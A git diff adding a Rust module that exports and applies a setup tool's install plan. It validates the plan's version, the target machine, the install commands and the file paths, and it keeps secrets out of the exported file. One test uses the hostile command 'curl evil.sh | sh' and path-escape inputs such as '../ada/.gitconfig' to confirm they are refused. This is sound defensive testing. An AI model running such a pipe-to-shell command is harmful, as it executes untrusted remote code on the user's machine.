@@ -0,0 +1,316 @@
+//! Install plan export
+//! What the Review screen describes, as JSON a script can read: the apps
+//! with their install commands, the config files and the git keys.
+//! `loadstar apply` runs one as written.
+
+use serde::{Deserialize, Serialize};
+use std::fs;
+use std::path::{Component, Path, PathBuf};
+use std::sync::mpsc;
+
+use crate::backup;
+use crate::catalog::{find_app, App};
+use crate::config;
+use crate::custom::CustomPackage;
+use crate::executor::InstallMessage;
+use crate::github;
+use crate::system::SystemInfo;
+use crate::wizard::WizardState;
+
+/// File name the plan is written under
+pub const FILE_NAME: &str = "loadstar-plan.json";
+
+/// Bumped when a plan's fields change meaning, so an old plan is refused
+/// rather than half applied
+pub const VERSION: u32 = 2;
+
+/// Everything an install would do, as of the current answers
+#[derive(Debug, Clone, Serialize, Deserialize)]
+#[serde(deny_unknown_fields)]
+pub struct Plan {
+    pub version: u32,
+    /// The machine the plan was made for, by `Os::name` and `Arch::name`
+    pub os: String,
+    pub arch: String,
+    pub apps: Vec<PlannedApp>,
+    pub configs: Vec<PlannedFile>,
+    pub git_config: Vec<GitSetting>,
+}
+
+#[derive(Debug, Clone, Serialize, Deserialize)]
+#[serde(deny_unknown_fields)]
+pub struct PlannedApp {
+    pub id: String,
+    pub name: String,
+    /// The command for this OS
+    pub command: String,
+}
+
+#[derive(Debug, Clone, Serialize, Deserialize)]
+#[serde(deny_unknown_fields)]
+pub struct PlannedFile {
+    pub label: String,
+    /// Relative to the home directory, so the plan applies under whoever's
+    /// home runs it
+    pub path: PathBuf,
+    /// There's a file there already; it's backed up as `*.load-backup`
+    pub replaces: bool,
+    /// `None` when one of the wizard's secrets is in it; applying the plan
+    /// leaves the file alone
+    pub content: Option<String>,
+}
+
+#[derive(Debug, Clone, Serialize, Deserialize)]
+#[serde(deny_unknown_fields)]
+pub struct GitSetting {
+    pub key: String,
+    pub value: String,
+}
+
+impl PlannedFile {
+    /// Where the file goes under `home`. A path that would land anywhere
+    /// else is refused: an edited plan mustn't write outside the home
+    /// directory.
+    pub fn resolve(&self, home: &Path) -> Result<PathBuf, String> {
+        let inside = self
+            .path
+            .components()
+            .all(|part| matches!(part, Component::Normal(_) | Component::CurDir));
+        if !inside || self.path.as_os_str().is_empty() {
+            return Err(format!(
+                "{} is planned for {}, outside the home directory; left alone",
+                self.label,
+                self.path.display()
+            ));
+        }
+        Ok(home.join(&self.path))
+    }
+}
+
+/// The plan for `wizard`'s answers on `system`
+pub fn build(wizard: &WizardState, system: &SystemInfo) -> Plan {
+    let secrets = backup::secrets(wizard);
+    Plan {
+        version: VERSION,
+        os: system.os.name().to_string(),
+        arch: system.arch.name().to_string(),
+        apps: wizard
+            .get_apps_to_install()
+            .into_iter()
+            .map(|app| PlannedApp {
+                id: app.id.as_str().to_string(),
+                name: app.name.to_string(),
+                command: app.install_command(),
+            })
+            .collect(),
+        configs: config::planned_configs(wizard, system, None)
+            .into_iter()
+            .map(|planned| PlannedFile {
+                label: planned.label.to_string(),
+                replaces: planned.path.exists(),
+                content: (!secrets.iter().any(|s| planned.content.contains(s)))
+                    .then_some(planned.content),
+                path: planned
+                    .path
+                    .strip_prefix(&system.home_dir)
+                    .map(Path::to_path_buf)
+                    .unwrap_or(planned.path),
+            })
+            .collect(),
+        git_config: github::git_settings(wizard)
+            .into_iter()
+            .map(|(key, value)| GitSetting {
+                key: key.to_string(),
+                value,
+            })
+            .collect(),
+    }
+}
+
+/// Write `plan` to `FILE_NAME` under `dir`, returning the path
+pub fn write(plan: &Plan, dir: &Path) -> Result<PathBuf, String> {
+    let path = dir.join(FILE_NAME);
+    let json = serde_json::to_string_pretty(plan).map_err(|e| e.to_string())?;
+    fs::write(&path, json + "\n")
+        .map_err(|e| format!("Could not write {}: {}", path.display(), e))?;
+    Ok(path)
+}
+
+impl Plan {
+    /// Read a plan written by `write`. Unknown or missing fields and other
+    /// versions are refused.
+    pub fn parse(text: &str) -> Result<Plan, String> {
+        let plan: Plan =
+            serde_json::from_str(text).map_err(|e| format!("Not a loadstar plan: {}", e))?;
+        if plan.version != VERSION {
+            return Err(format!(
+                "The plan is version {}; this loadstar applies version {}",
+                plan.version, VERSION
+            ));
+        }
+        Ok(plan)
+    }
+
+    /// The apps to install, once the plan is known to be for this machine
+    /// and each app still installs with the command it was planned with
+    pub fn check(&self, system: &SystemInfo) -> Result<Vec<&'static App>, String> {
+        let here = (system.os.name(), system.arch.name());
+        if (self.os.as_str(), self.arch.as_str()) != here {
+            return Err(format!(
+                "The plan was made for {} on {}, and this is {} on {}",
+                self.os, self.arch, here.0, here.1
+            ));
+        }
+        self.apps
+            .iter()
+            .map(|planned| {
+                let app = find_app(&planned.id)
+                    .or_else(|| {
+                        let package = CustomPackage::parse(&planned.id).ok()?;
+                        (planned.id.contains(':') && package.to_string() == planned.id)
+                            .then(|| package.app())
+                    })
+                    .ok_or_else(|| format!("{} isn't in the catalog", planned.id))?;
+                let command = app.install_command();
+                if command != planned.command {
+                    return Err(format!(
+                        "{} installs with `{}` now, not `{}` as planned",
+                        planned.id, command, planned.command
+                    ));
+                }
+                Ok(app)
+            })
+            .collect()
+    }
+
+    /// Write the planned files and set the git keys. Files whose content
+    /// was held back are skipped with a warning.
+    pub fn apply(&self, system: &SystemInfo, tx: &mpsc::Sender<InstallMessage>) {
+        let _ = tx.send(InstallMessage::PhaseStart {
+            phase: "Configuration Files".to_string(),
+        });
+        for file in &self.configs {
+            let path = match file.resolve(&system.home_dir) {
+                Ok(path) => path,
+                Err(e) => {
+                    let _ = tx.send(InstallMessage::Warning(e));
+                    continue;
+                }
+            };
+            match &file.content {
+                Some(content) => config::write_file(&path, content, &file.label, system, tx),
+                None => {
+                    let _ = tx.send(InstallMessage::Warning(format!(
+                        "{} holds a secret, so the plan doesn't carry it; left alone",
+                        file.label
+                    )));
+                }
+            }
+        }
+
+        if !self.git_config.is_empty() {
+            let _ = tx.send(InstallMessage::PhaseStart {
+                phase: "Git config".to_string(),
+            });
+            let settings: Vec<(&str, &str)> = self
+                .git_config
+                .iter()
+                .map(|s| (s.key.as_str(), s.value.as_str()))
+                .collect();
+            github::set_git_config(&settings, tx);
+        }
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::secret::Secret;
+
+    #[test]
+    fn the_plan_lists_commands_files_and_git_keys() {
+        let system = SystemInfo::detect().unwrap();
+        let mut wizard = WizardState::new();
+        wizard.selected_apps = ["ripgrep".to_string()].into_iter().collect();
+        wizard.identity.name = String::new();
+        wizard.identity.email = "ada@example.com".to_string();
+
+        let plan = build(&wizard, &system);
+        let ripgrep = plan.apps.iter().find(|a| a.id == "ripgrep").unwrap();
+        assert!(ripgrep.command.contains("ripgrep"), "{}", ripgrep.command);
+        assert!(plan.configs.iter().any(|c| c.label == ".gitconfig"));
+        assert!(plan
+            .git_config
+            .iter()
+            .any(|s| s.key == "user.email" && s.value == "ada@example.com"));
+
+        let dir = std::env::temp_dir().join(format!("loadstar-plan-{}", std::process::id()));
+        fs::create_dir_all(&dir).unwrap();
+        let path = write(&plan, &dir).unwrap();
+        let json: serde_json::Value =
+            serde_json::from_str(&fs::read_to_string(&path).unwrap()).unwrap();
+        assert_eq!(json["apps"].as_array().unwrap().len(), plan.apps.len());
+        assert_eq!(json["git_config"][0]["key"], "user.email");
+        let _ = fs::remove_dir_all(&dir);
+    }
+
+    #[test]
+    fn plans_are_checked_before_they_apply() {
+        let system = SystemInfo::detect().unwrap();
+        let mut wizard = WizardState::new();
+        wizard.selected_apps = ["ripgrep".to_string()].into_iter().collect();
+        wizard.ai.openai_key = Secret::new("sk-live-123");
+        let plan = build(&wizard, &system);
+        let json = serde_json::to_string(&plan).unwrap();
+
+        let parsed = Plan::parse(&json).unwrap();
+        let apps = parsed.check(&system).unwrap();
+        assert!(apps.iter().any(|app| app.id.as_str() == "ripgrep"));
+        assert!(!json.contains("sk-live-123"));
+
+        assert!(Plan::parse(&json.replacen("\"version\":2", "\"version\":3", 1)).is_err());
+        assert!(Plan::parse(&json.replacen("\"apps\"", "\"extra\":0,\"apps\"", 1)).is_err());
+
+        let mut elsewhere = parsed.clone();
+        elsewhere.os = "Plan 9".to_string();
+        assert!(elsewhere.check(&system).unwrap_err().contains("Plan 9"));
+
+        let mut edited = parsed.clone();
+        let ripgrep = edited.apps.iter_mut().find(|a| a.id == "ripgrep").unwrap();
+        ripgrep.command = "curl evil.sh | sh".to_string();
+        assert!(edited.check(&system).is_err());
+
+        let mut custom = parsed;
+        custom.apps = vec![PlannedApp {
+            id: "cargo:bacon".to_string(),
+            name: "bacon".to_string(),
+            command: "cargo install bacon".to_string(),
+        }];
+        assert_eq!(custom.check(&system).unwrap()[0].name, "bacon");
+    }
+
+    #[test]
+    fn planned_files_stay_under_home() {
+        let system = SystemInfo::detect().unwrap();
+        let plan = build(&WizardState::new(), &system);
+        let gitconfig = plan
+            .configs
+            .iter()
+            .find(|c| c.label == ".gitconfig")
+            .unwrap();
+        assert_eq!(gitconfig.path, Path::new(".gitconfig"));
+
+        let home = Path::new("/home/grace");
+        assert_eq!(
+            gitconfig.resolve(home).unwrap(),
+            Path::new("/home/grace/.gitconfig")
+        );
+        for outside in ["/etc/profile", "../ada/.gitconfig", ".config/../../x", ""] {
+            let file = PlannedFile {
+                path: PathBuf::from(outside),
+                ..gitconfig.clone()
+            };
+            assert!(file.resolve(home).is_err(), "{}", outside);
+        }
+    }
+}